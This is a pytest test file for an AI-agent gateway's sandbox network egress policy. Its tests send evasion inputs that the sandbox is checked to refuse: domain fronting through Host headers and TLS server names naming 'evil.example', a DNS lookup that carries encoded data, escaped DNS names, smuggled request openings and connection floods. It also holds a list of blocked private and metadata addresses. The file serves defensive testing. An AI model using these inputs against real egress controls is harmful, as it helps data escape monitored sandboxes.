"""The network as a policy: every test goes through `gateway run` (or the gate), the real
sandbox, its resolver and proxy, and real servers on this host's loopback.

The sandbox names the host's loopback server `localhost.` (with the dot: the sandbox's own
/etc/hosts keeps `localhost` for its own loopback), which its resolver answers and the gateway
resolves to 127.0.0.1 on the host: an address the policy must list for any of it to connect."""

from __future__ import annotations

import http.server
import json
import socket
import ssl
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gateway.approval import ApprovalRequest, CallbackApprover
from gateway.audit import AuditLog
from gateway.calls import RunCall
from gateway.pipeline import Gateway
from gateway.policy.compile import load_policy
from gateway.policy.loader import PolicyError
from gateway.sandbox.egress import presets
from gateway.sandbox.identity import hand_over
from tests.conftest import eventually

POLICY = """\
version: 1
principals:
  agent: {{roles: [dev]}}
roles:
  dev: {{level: 2, read_roots: ["."], write_roots: ["."]}}
tools:
  run: {{allow_from: 0}}
  session: {{allow_from: 0}}
rules:
  - id: python
    decision: allow
    justification: "the tests' own scripts and pip"
    programs: ["python3"]
    accept_unknown: true
    examples: {{match: ["python3 x.py"]}}
  - id: echo
    decision: allow
    justification: "saying what happened"
    programs: ["echo"]
    examples: {{match: ["echo done"]}}
sandbox:
  network: {network}
"""

CLIENT = textwrap.dedent("""\
    import socket, ssl, sys, urllib.request
    kind, target = sys.argv[1], sys.argv[2]
    try:
        if kind == "proxy":  # through HTTP_PROXY, as urllib does
            print("status", urllib.request.urlopen(target, timeout=30).status)
        elif kind == "raw":  # a program that ignores HTTP_PROXY: a socket to a name
            host, port, header = target.split(",")
            s = socket.create_connection((host, int(port)), timeout=30)
            s.sendall(("GET / HTTP/1.1\\r\\nHost: " + header + "\\r\\nConnection: close\\r\\n\\r\\n").encode())
            data = s.recv(200)
            print("status", data.split(b" ")[1].decode() if data else "closed")
        elif kind == "tls":  # a ClientHello naming a server (SNI) other than the name connected to
            host, port, sni = target.split(",")
            s = socket.create_connection((host, int(port)), timeout=30)
            ctx = ssl.create_default_context()
            t = ctx.wrap_socket(s, server_hostname=sni)
            print("status tls-ok")
        elif kind == "slow":  # silent past the proxy's wait, then a request naming another host
            import time
            host, port, header = target.split(",")
            s = socket.create_connection((host, int(port)), timeout=30)
            time.sleep(1.5)
            s.sendall(("GET / HTTP/1.1\\r\\nHost: " + header + "\\r\\nConnection: close\\r\\n\\r\\n").encode())
            data = s.recv(200)
            print("status", data.split(b" ")[1].decode() if data else "closed")
        elif kind == "send":  # raw first bytes (escaped), then whatever comes back
            host, port, payload = target.split(",", 2)
            s = socket.create_connection((host, int(port)), timeout=30)
            s.sendall(payload.encode().decode("unicode_escape").encode("latin-1"))
            data = s.recv(200)
            print("status", data.split(b" ")[1].decode() if data else "closed")
        elif kind == "dns":  # a query written by hand: labels as given (escapes and all)
            labels = [l.encode() for l in target.split("|")]
            q = bytes([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])
            q += b"".join(bytes([len(l)]) + l for l in labels) + bytes([0, 0, 1, 0, 1])
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.settimeout(10)
            u.sendto(q, ("127.0.0.1", 53))
            answer = u.recv(512)
            rcode, count = answer[3] & 0x0F, int.from_bytes(answer[6:8], "big")
            print("refused rcode", rcode) if rcode else print("status answered", count)
        elif kind == "many":  # connect to many places at once and hold them
            host, port, n = target.split(",")
            held = []
            for i in range(int(n)):
                try:
                    held.append(socket.create_connection((host.replace("N", str(i)), int(port)), timeout=30))
                except OSError:
                    pass
            import time
            time.sleep(3)
            print("held", len(held))
        elif kind == "lookup":
            print("status", socket.gethostbyname(target))
        elif kind == "udp":
            host, port = target.rsplit(",", 1)
            u = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b"leak", (host, int(port)))
            print("status udp-sent")
    except Exception as exc:
        print("refused", type(exc).__name__, str(exc)[:200])
""")


class _Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"hello\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def server() -> Iterator[int]:
    """A real HTTP server on the host's loopback."""
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd.server_address[1]
    httpd.shutdown()


def _setup(tmp_path: Path, network: str) -> tuple[Path, Path, Path]:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "client.py").write_text(CLIENT)
    (ws / "index.html").write_text("hello\n")
    hand_over(ws)
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.format(network=network))
    return ws, policy, tmp_path / "audit"


def run(policy: Path, ws: Path, audit: Path, command: str, timeout: float = 300) -> str:
    proc = subprocess.run(
        [sys.executable, "-m", "gateway", "run", "--policy", str(policy), "--workspace", str(ws),
         "--audit-dir", str(audit), "--", command],
        capture_output=True, text=True, timeout=timeout, check=False,
    )  # fmt: skip
    return proc.stdout + proc.stderr


def records(audit: Path, *events: str) -> list[dict[str, Any]]:
    out = []
    for f in sorted(audit.glob("*.jsonl")):
        for line in f.read_text().splitlines():
            r = json.loads(line)
            if not events or r["event"] in events:
                out.append(r)
    return out


def test_an_allowed_host_is_reached_through_the_proxy_and_recorded(tmp_path: Path, server: int) -> None:
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py proxy http://localhost.:{server}/index.html")
    assert "status 200" in out, out
    allowed = records(audit, "egress_allowed")
    ended = records(audit, "egress_connection")
    decision = records(audit, "decision")[-1]
    assert allowed and allowed[0]["data"]["host"] == "localhost" and allowed[0]["data"]["port"] == server
    assert allowed[0]["call_id"] == decision["call_id"]  # under the call that made it
    assert ended[-1]["data"]["ended"] == "closed" and ended[-1]["data"]["bytes_in"] > 0
    assert ended[-1]["data"]["bytes_out"] > 0 and "duration_ms" in ended[-1]["data"]


def test_a_program_that_ignores_http_proxy_is_checked_all_the_same(tmp_path: Path, server: int) -> None:
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server},localhost")
    assert "status 200" in out, out
    assert [r["data"]["via"] for r in records(audit, "egress_allowed")] == ["transparent"]


def test_a_host_header_naming_another_host_is_refused(tmp_path: Path, server: int) -> None:
    """Domain fronting in plain HTTP: the resolved name is allowed, the request names another."""
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server},evil.example")
    assert "status 200" not in out, out
    refused = [r for r in records(audit, "egress_connection") if r["data"]["decision"] == "deny"]
    assert refused and "evil.example" in refused[0]["data"]["why"]
    assert not records(audit, "egress_allowed")  # nothing reached the server
    assert "network refused: localhost:" in out and "differs from the resolved host" in out


def test_a_tls_server_name_other_than_the_resolved_host_is_refused(tmp_path: Path, server: int) -> None:
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py tls localhost.,{server},evil.example")
    assert "tls-ok" not in out, out
    refused = [r for r in records(audit, "egress_connection") if r["data"]["decision"] == "deny"]
    assert refused and "evil.example" in refused[0]["data"]["why"] and "TLS server name" in refused[0]["data"]["why"]


def test_a_lookup_of_an_unlisted_name_is_refused_and_recorded(tmp_path: Path, server: int) -> None:
    """Exfiltration through the resolver: `<data>.not-allowed.test` never leaves, and is recorded."""
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, "python3 client.py lookup c2VjcmV0.not-allowed.test")
    assert "refused" in out and "status" not in out, out
    assert "network refused: lookup of 'c2vjcmv0.not-allowed.test' refused" in out  # the agent is told why
    names = {r["data"]["name"] for r in records(audit, "egress_dns_refused")}
    assert "c2vjcmv0.not-allowed.test" in names


@pytest.mark.parametrize(
    "target",
    ["raw 1.1.1.1,443,x", "raw 127.0.0.1,{port},x", "udp 8.8.8.8,53", "udp 1.1.1.1,443", "raw ::1,{port},x",
     "raw 2606:4700:4700::1111,443,x", "proxy http://127.0.0.1:{port}/", "proxy http://1.1.1.1/"],
)  # fmt: skip
def test_literal_addresses_and_udp_are_out_of_reach(tmp_path: Path, server: int, target: str) -> None:
    """IP literals (v4, v6, the host's own loopback) and UDP: no route out of the sandbox, and
    the proxy refuses an address the policy does not list (127.0.0.1 is not listed here)."""
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}"]}}')
    out = run(policy, ws, audit, "python3 client.py " + target.format(port=server))
    assert "status 200" not in out and "tls-ok" not in out, out
    assert not records(audit, "egress_allowed")  # a datagram "sent" into the namespace: nothing listens, nothing leaves


def test_an_allowed_name_that_resolves_to_loopback_is_refused_unless_the_address_is_listed(
    tmp_path: Path, server: int
) -> None:
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}"]}}')
    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server},localhost")
    assert "status 200" not in out, out
    why = [r["data"]["why"] for r in records(audit, "egress_connection") if r["data"]["decision"] == "deny"]
    assert why and "loopback, private or link-local" in why[0]


def test_an_unlisted_port_of_an_allowed_host_is_refused(tmp_path: Path, server: int) -> None:
    """CONNECT through the proxy to another port of the same host; and a port the policy can
    never reach has no listener at all."""
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py proxy http://localhost.:{server + 1}/")
    assert "status" not in out and "403" in out, out
    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server + 1},localhost")
    assert "status 200" not in out, out
    assert any(r["data"].get("port") == server + 1 for r in records(audit, "egress_connection"))


def test_deny_beats_allow_and_unlisted_hosts_are_refused_with_a_clear_answer(tmp_path: Path, server: int) -> None:
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"], deny: ["localhost"]}}')
    out = run(policy, ws, audit, f"python3 client.py proxy http://localhost.:{server}/")
    assert "status 200" not in out, out
    assert "refused" in out  # the proxy's 403 names the policy


def test_an_asked_host_waits_for_a_supervisor_and_goes_on_when_approved(tmp_path: Path, server: int) -> None:
    ws, policy, audit = _setup(tmp_path, f'{{ask: ["localhost:{server}"], allow: ["127.0.0.1"]}}')
    asked: list[ApprovalRequest] = []

    def supervisor(request: ApprovalRequest) -> bool:
        asked.append(request)
        return True

    gw = Gateway(load_policy(policy, ws), AuditLog(audit), CallbackApprover(supervisor))
    try:
        out = gw.handle(RunCall(principal="agent", command=f"python3 client.py proxy http://localhost.:{server}/"))
        out2 = gw.handle(RunCall(principal="agent", command=f"python3 client.py raw localhost.,{server},localhost"))
    finally:
        gw.close()
    assert "status 200" in out["stdout"], out
    assert "status 200" in out2["stdout"], out2
    assert [r.command for r in asked] == [f"connect localhost:{server}"] * 2  # once per call
    assert "client.py proxy" in asked[0].reason  # the command that wants it is shown
    approvals = [r for r in records(audit, "approval") if r["tool"] == "network"]
    assert approvals and approvals[0]["decision"] == "allow" and approvals[0]["data"]["host"] == "localhost"


def test_an_unanswered_ask_is_refused(tmp_path: Path, server: int) -> None:
    ws, policy, audit = _setup(tmp_path, f'{{ask: ["*:{server}"], allow: ["127.0.0.1"]}}')
    gw = Gateway(load_policy(policy, ws), AuditLog(audit), CallbackApprover(lambda r: False))
    try:
        out = gw.handle(RunCall(principal="agent", command=f"python3 client.py proxy http://localhost.:{server}/"))
    finally:
        gw.close()
    assert "status 200" not in out["stdout"] and "403" in out["stdout"], out
    assert [r["decision"] for r in records(audit, "approval") if r["tool"] == "network"] == ["deny"]


def _pip_can_run() -> bool:
    return subprocess.run(["/usr/bin/python3", "-m", "pip", "--version"], capture_output=True).returncode == 0


@pytest.mark.skipif(not _pip_can_run(), reason="no system pip (make test installs python3-pip)")
def test_pip_installs_through_the_python_packages_preset_and_not_without_it(tmp_path: Path) -> None:
    """The registry this machine's pip is set up to use (read from its configuration, never
    written here): a download and an install of a small wheel work under the preset and fail
    without it."""
    found = presets.resolve("python-packages")
    assert found.hosts, "pip's configuration names no http(s) index"
    pip = "python3 -m pip --disable-pip-version-check --no-input"
    ws, policy, audit = _setup(tmp_path, '{presets: ["python-packages"]}')
    out = run(
        policy,
        ws,
        audit,
        f"{pip} download --no-deps -d dl six==1.16.0 && {pip} install --no-deps --target lib six==1.16.0"
        " && echo INSTALLED",
    )
    assert "INSTALLED" in out, out
    assert list((ws / "dl").glob("six-1.16.0*")) and (ws / "lib" / "six.py").exists()
    hosts = {r["data"]["host"] for r in records(audit, "egress_allowed")}
    assert hosts and hosts <= {h.split(":")[0] for h in found.hosts}
    bare = tmp_path / "bare"
    bare.mkdir()
    ws2, policy2, audit2 = _setup(bare, "{allow: []}")
    out = run(
        policy2, ws2, audit2, f"{pip} download --no-deps --retries 0 --timeout 5 -d dl six==1.16.0 && echo INSTALLED"
    )
    assert "INSTALLED" not in out, out


@pytest.mark.parametrize(
    ("network", "why"),
    [
        ('{allow: ["*"]}', "'*' under allow"),
        ('{allow: [""]}', "empty"),
        ('{allow: ["https://github.com"]}', "scheme"),
        ('{allow: ["github.com/org"]}', "path"),
        ('{allow: ["*.com"]}', "top-level domain"),
        ('{allow: ["git*.com"]}', "'*' only"),
        ('{deny: ["host:99999"]}', "port"),
        ('{presets: ["cargo"]}', "python-packages"),
    ],
)
def test_bad_patterns_are_load_errors_with_file_line_and_field(tmp_path: Path, network: str, why: str) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.format(network=network))
    with pytest.raises(PolicyError) as err:
        load_policy(policy, tmp_path)
    message = str(err.value)
    line = POLICY.splitlines().index("  network: {network}") + 1
    assert f"{policy}:{line}:" in message and "sandbox.network" in message and why in message, message


def test_an_upper_layer_may_only_narrow_the_network(tmp_path: Path) -> None:
    lower = tmp_path / "lower.yaml"
    lower.write_text(POLICY.format(network='{allow: ["*.example.com"], deny: ["metadata.*"]}'))
    upper = tmp_path / "upper.yaml"
    for network, ok in [
        ('{allow: ["api.example.com"], deny: ["metadata.*"]}', True),
        ("false", True),
        ("true", False),
        ('{allow: ["github.com"], deny: ["metadata.*"]}', False),
        ('{allow: ["api.example.com"]}', True),  # the lower deny stays: layers merge by key
        ('{ask: ["*"], deny: ["metadata.*"]}', False),
        ('{presets: ["npm-packages"], deny: ["metadata.*"]}', False),
    ]:
        upper.write_text(f"version: 1\ninclude: [lower.yaml]\nsandbox:\n  network: {network}\n")
        if ok:
            load_policy(upper, tmp_path)
        else:
            with pytest.raises(PolicyError, match=r"sandbox\.network"):
                load_policy(upper, tmp_path)
    upper.write_text('version: 1\ninclude: [lower.yaml]\nsandbox:\n  network: {allow: ["api.example.com"]}\n')
    egress = load_policy(upper, tmp_path).egress
    assert egress is not None and egress.decide("metadata.internal", 443).verdict == "deny"


def test_the_resolver_and_listeners_are_per_sandbox(tmp_path: Path, server: int) -> None:
    """Another sandbox's proxy is out of reach: each has its own namespace, and an address
    one sandbox's resolver gave means nothing in another's."""
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py raw 127.100.0.1,{server},localhost")
    assert "status 200" not in out, out
    assert any("no address the sandbox's resolver gave" in r["data"].get("why", "")
               for r in records(audit, "egress_connection"))  # fmt: skip


def test_sni_reader_uses_openssl_on_a_real_client_hello() -> None:
    from gateway.sandbox.egress import inspect

    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="pypi.org")
    with pytest.raises(ssl.SSLWantReadError):
        obj.do_handshake()
    hello = outgoing.read()
    assert inspect.classify(hello).name == "pypi.org"
    assert inspect.classify(hello[:20]).kind == "incomplete"
    assert inspect.classify(b"\x16\x03\x01\x00\x05hello").error


def test_blocked_addresses() -> None:
    from gateway.sandbox.egress.proxy import blocked

    for a in ("127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "::1", "fe80::1",
              "fd00::1", "::ffff:127.0.0.1", "100.64.0.1", "0.0.0.0"):  # fmt: skip
        assert blocked(a), a
    for a in ("1.1.1.1", "203.0.113.80", "2606:4700:4700::1111"):
        assert not blocked(a), a
    assert socket.AF_INET  # (the module's own import)


def test_a_sessions_connections_are_recorded_under_the_exec_that_made_them(tmp_path: Path, server: int) -> None:
    from gateway.calls import SessionCall

    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    gw = Gateway(load_policy(policy, ws), AuditLog(audit))
    try:
        started = gw.handle(SessionCall(principal="agent", action="start"))
        assert started.get("status") == "ok", started
        sid = started["session_id"]
        ran = gw.handle(
            SessionCall(principal="agent", action="exec", session_id=sid,
                        command=f"python3 client.py raw localhost.,{server},localhost", timeout_ms=120000)
        )  # fmt: skip
        gw.handle(SessionCall(principal="agent", action="kill", session_id=sid))
    finally:
        gw.close()
    assert "status 200" in json.dumps(ran), ran
    allowed = records(audit, "egress_allowed")
    assert allowed and allowed[0]["call_id"] == ran["call_id"] != started["call_id"]


def test_a_name_with_an_escape_is_not_a_way_past_a_deny(tmp_path: Path, server: int) -> None:
    """`\\097dmin.corp.test` ends with an allowed suffix and differs from the denied name as
    text, while the host's resolver reads it as admin.corp.test: refused wherever it is given."""
    net = f'{{allow: ["*.corp.test:{server}", "127.0.0.1"], deny: ["admin.corp.test"]}}'
    ws, policy, audit = _setup(tmp_path, net)
    out = run(policy, ws, audit, "python3 client.py dns '\\097dmin|corp|test'")
    assert "refused rcode 5" in out, out
    out = run(policy, ws, audit, "python3 client.py dns 'www|corp|test'")
    assert "status answered 1" in out, out  # the check refuses the escape, not the suffix
    out = run(policy, ws, audit, f"python3 client.py proxy 'http://\\097dmin.corp.test:{server}/'")
    assert "status 200" not in out, out
    assert not records(audit, "egress_allowed")


@pytest.mark.parametrize(
    "opening",
    ["GET\\t/\\tHTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n",
     " GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n",
     "GET http://evil.example/ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n",
     "\\x14\\x03\\x01\\x00\\x01\\x01"],
)  # fmt: skip
def test_openings_a_lenient_server_reads_as_another_host_are_refused(tmp_path: Path, server: int, opening: str) -> None:
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py send 'localhost.,{server},{opening}'")
    assert "status 200" not in out, out
    assert not records(audit, "egress_allowed")


def test_refusals_are_recorded_up_to_a_cap_then_counted(tmp_path: Path, server: int) -> None:
    """A flood of refused connections cannot grow the audit log without end."""
    from gateway.sandbox.egress.proxy import MAX_RECORDED_REFUSALS

    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py many 127.0.0.1,{server},{MAX_RECORDED_REFUSALS + 60}")
    assert "held" in out, out
    refused = [r for r in records(audit, "egress_connection") if r["data"].get("decision") == "deny"]
    assert len(refused) == MAX_RECORDED_REFUSALS
    summary = records(audit, "egress_summary")[-1]["data"]
    assert summary["refused_connections"] == MAX_RECORDED_REFUSALS + 60 and summary["unrecorded_refusals"] == 60


def test_a_connection_cut_when_the_sandbox_ends_is_still_recorded(tmp_path: Path) -> None:
    """The command is killed at its timeout while its connection waits on a server that never
    answers: the connection's end is recorded all the same (bytes, duration, how it ended)."""
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(16)
    port = silent.getsockname()[1]
    try:
        ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{port}", "127.0.0.1"]}}')
        gw = Gateway(load_policy(policy, ws), AuditLog(audit))
        try:
            out = gw.handle(RunCall(principal="agent", command=f"python3 client.py many localhost.,{port},5",
                                    timeout_ms=1500))  # fmt: skip
        finally:
            gw.close()
    finally:
        silent.close()
    assert out["status"] == "timeout", out
    allowed = records(audit, "egress_allowed")
    ended = [r for r in records(audit, "egress_connection") if r["data"].get("decision") == "allow"]
    assert len(allowed) == 5 and len(ended) == 5, (len(allowed), len(ended))


def test_a_sandbox_cannot_hold_more_than_a_few_questions_and_they_end_with_it(tmp_path: Path, server: int) -> None:
    """Asks are capped per sandbox, and withdrawn when it ends: one sandbox cannot fill the
    supervisor's inbox or the threads that wait on it for others."""
    from gateway import cancellation
    from gateway.sandbox.egress.proxy import MAX_ASKS

    ws, policy, audit = _setup(tmp_path, f'{{ask: ["*.corp.test:{server}"]}}')
    seen: list[tuple[str, bool]] = []

    def never_answered(request: ApprovalRequest) -> bool:
        event = cancellation.current_cancel()
        withdrawn = event is not None and event.wait(120)
        seen.append((request.command, withdrawn))
        return False

    gw = Gateway(load_policy(policy, ws), AuditLog(audit), CallbackApprover(never_answered))
    try:
        gw.handle(RunCall(principal="agent", command=f"python3 client.py many hN.corp.test.,{server},{MAX_ASKS + 4}",
                          timeout_ms=8000))  # fmt: skip
    finally:
        gw.close()
    eventually(lambda: len(seen) == MAX_ASKS or None)  # each waiter returns once it is withdrawn
    assert len(seen) == MAX_ASKS and all(withdrawn for _, withdrawn in seen), seen


BROKER_CLIENT = textwrap.dedent("""\
    import os, sys, urllib.request
    url, method = sys.argv[1], sys.argv[2]
    token = os.environ["API_TOKEN"]
    print("sandbox sees", token)
    req = urllib.request.Request(url, method=method, data=b"x" if method == "POST" else None,
                                 headers={"Authorization": "Bearer " + token})
    try:
        print("status", urllib.request.urlopen(req, timeout=30).status)
    except Exception as exc:
        print("refused", type(exc).__name__, str(exc)[:200])
""")


@pytest.fixture
def tls_server(tmp_path: Path) -> Iterator[tuple[int, Path, list[str]]]:
    """A real HTTPS server on the host's loopback, its certificate from a test CA of its own."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    now = datetime.datetime.now(datetime.UTC)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "egress test CA")])
    ca = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name).public_key(ca_key.public_key())
          .serial_number(1).not_valid_before(now - datetime.timedelta(hours=1))
          .not_valid_after(now + datetime.timedelta(days=1))
          .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
          .sign(ca_key, hashes.SHA256()))  # fmt: skip
    key = ec.generate_private_key(ec.SECP256R1())
    leaf = (x509.CertificateBuilder().subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")]))
            .issuer_name(ca_name).public_key(key.public_key()).serial_number(2)
            .not_valid_before(now - datetime.timedelta(hours=1)).not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
            .sign(ca_key, hashes.SHA256()))  # fmt: skip
    certs = tmp_path / "certs"
    certs.mkdir()
    (certs / "ca.pem").write_bytes(ca.public_bytes(serialization.Encoding.PEM))
    (certs / "leaf.pem").write_bytes(
        leaf.public_bytes(serialization.Encoding.PEM)
        + key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def _answer(self) -> None:
            seen.append(self.headers.get("Authorization", ""))
            body = b"ok\n"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _answer

        def log_message(self, format: str, *args: Any) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(certs / "leaf.pem")
    httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1], certs / "ca.pem", seen
    httpd.shutdown()


def _brokered_setup(tmp_path: Path, port: int, plain: int, read_only: bool = False) -> tuple[Path, Path, Path]:
    ro = ", read_only: true" if read_only else ""
    network = (f'{{allow: ["localhost:{port}", "localhost:{plain}", "127.0.0.1"], '
               f'intercept: [{{host: "localhost:{port}"{ro}}}]}}')  # fmt: skip
    ws, policy, audit = _setup(tmp_path, network)
    policy.write_text(
        policy.read_text() + f'secrets:\n  API_TOKEN: {{env: AGW_TEST_TOKEN, hosts: ["localhost:{port}"]}}\n'
    )
    (ws / "broker.py").write_text(BROKER_CLIENT)
    hand_over(ws)
    return ws, policy, audit


def run_with(env: dict[str, str], policy: Path, ws: Path, audit: Path, command: str) -> str:
    import os

    proc = subprocess.run(
        [sys.executable, "-m", "gateway", "run", "--policy", str(policy), "--workspace", str(ws),
         "--audit-dir", str(audit), "--", command],
        capture_output=True, text=True, timeout=300, check=False, env={**os.environ, **env},
    )  # fmt: skip
    return proc.stdout + proc.stderr


SECRET = "s3cr3t-value-that-must-not-leak-9f2c"


def test_a_brokered_secret_reaches_its_host_and_never_the_sandbox_or_the_log(
    tmp_path: Path, tls_server: tuple[int, Path, list[str]], server: int
) -> None:
    port, ca, seen = tls_server
    ws, policy, audit = _brokered_setup(tmp_path, port, server)
    env = {"AGW_TEST_TOKEN": SECRET, "SSL_CERT_FILE": str(ca)}  # the gateway trusts the test server's CA
    out = run_with(env, policy, ws, audit, f"python3 broker.py https://localhost.:{port}/x GET")
    assert "status 200" in out, out
    assert seen == [f"Bearer {SECRET}"]  # the server got the real value
    assert "sandbox sees agw-secret-api_token-" in out and SECRET not in out
    log = "".join(f.read_text() for f in audit.glob("*.jsonl"))
    assert SECRET not in log
    assert not any(SECRET in f.read_text(errors="replace") for f in ws.rglob("*") if f.is_file())
    ended = [r for r in records(audit, "egress_connection") if r["data"].get("intercepted")]
    assert ended and ended[0]["data"]["brokered"] == ["API_TOKEN"] and ended[0]["data"]["requests"] == 1


def test_a_placeholder_sent_to_another_host_is_refused_as_a_leak(
    tmp_path: Path, tls_server: tuple[int, Path, list[str]], server: int
) -> None:
    port, ca, _ = tls_server
    ws, policy, audit = _brokered_setup(tmp_path, port, server)
    env = {"AGW_TEST_TOKEN": SECRET, "SSL_CERT_FILE": str(ca)}
    out = run_with(env, policy, ws, audit, f"python3 broker.py http://localhost.:{server}/x GET")
    assert "status 200" not in out, out
    leaks = records(audit, "egress_leak_attempt")
    assert leaks and leaks[0]["data"]["placeholder_of"] == "API_TOKEN" and leaks[0]["data"]["port"] == server


def test_a_read_only_intercepted_host_refuses_a_post(
    tmp_path: Path, tls_server: tuple[int, Path, list[str]], server: int
) -> None:
    port, ca, seen = tls_server
    ws, policy, audit = _brokered_setup(tmp_path, port, server, read_only=True)
    env = {"AGW_TEST_TOKEN": SECRET, "SSL_CERT_FILE": str(ca)}
    out = run_with(env, policy, ws, audit, f"python3 broker.py https://localhost.:{port}/x POST")
    assert "status 200" not in out and "403" in out, out
    assert seen == []  # nothing reached the server
    out = run_with(env, policy, ws, audit, f"python3 broker.py https://localhost.:{port}/x GET")
    assert "status 200" in out, out


def test_a_secret_for_a_host_that_is_not_intercepted_is_a_load_error(tmp_path: Path) -> None:
    ws, policy, _ = _setup(tmp_path, '{allow: ["api.example.com"]}')
    policy.write_text(policy.read_text() + 'secrets:\n  API_TOKEN: {env: HOME, hosts: ["api.example.com"]}\n')
    with pytest.raises(PolicyError, match="intercept"):
        load_policy(policy, ws)


def test_network_decisions_replay_under_a_draft_policy(tmp_path: Path, server: int) -> None:
    """`gateway audit replay`: the recorded connections and lookups decided again under a draft."""
    from gateway.replay import replay

    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    run(policy, ws, audit, f"python3 client.py raw localhost.,{server},localhost")
    run(policy, ws, audit, "python3 client.py lookup api.example.com")
    draft = tmp_path / "draft.yaml"
    draft.write_text(POLICY.format(network='{allow: ["api.example.com"], deny: ["localhost"]}'))
    report = replay(draft, audit, workspace=ws)
    changes = {(g.old_decision, g.new_decision): [c.command for c in g.calls] for g in report.ordered()}
    assert changes[("allow", "deny")] == [f"connect localhost:{server}"]
    assert changes[("deny", "allow")] == ["lookup api.example.com"] * len(changes[("deny", "allow")])


def test_a_silent_start_is_checked_when_the_first_bytes_come(tmp_path: Path, server: int) -> None:
    """A client that waits past the proxy's patience (as ssh would) before naming another host:
    the far side is connected, but the first bytes are checked before they are sent on."""
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    out = run(policy, ws, audit, f"python3 client.py slow localhost.,{server},evil.example")
    assert "status 200" not in out, out
    ended = [r["data"]["ended"] for r in records(audit, "egress_connection")]
    assert any("evil.example" in e for e in ended), ended
    out = run(policy, ws, audit, f"python3 client.py slow localhost.,{server},localhost")
    assert "status 200" in out, out  # the honest slow client goes through


def test_the_network_works_with_the_gateway_as_an_ordinary_user(tmp_path: Path, server: int) -> None:
    """As an ordinary user the helper enters the sandbox's network through the user namespace
    that owns it (NS_GET_USERNS): the same decisions, the same records."""
    import os
    import sysconfig

    if os.geteuid() != 0:
        pytest.skip("switching to an ordinary user needs root")
    system = Path("/usr/bin/python3")
    probe = subprocess.run(
        [str(system), "-c", "import sys; print(sys.version_info[:2])"], capture_output=True, text=True
    )
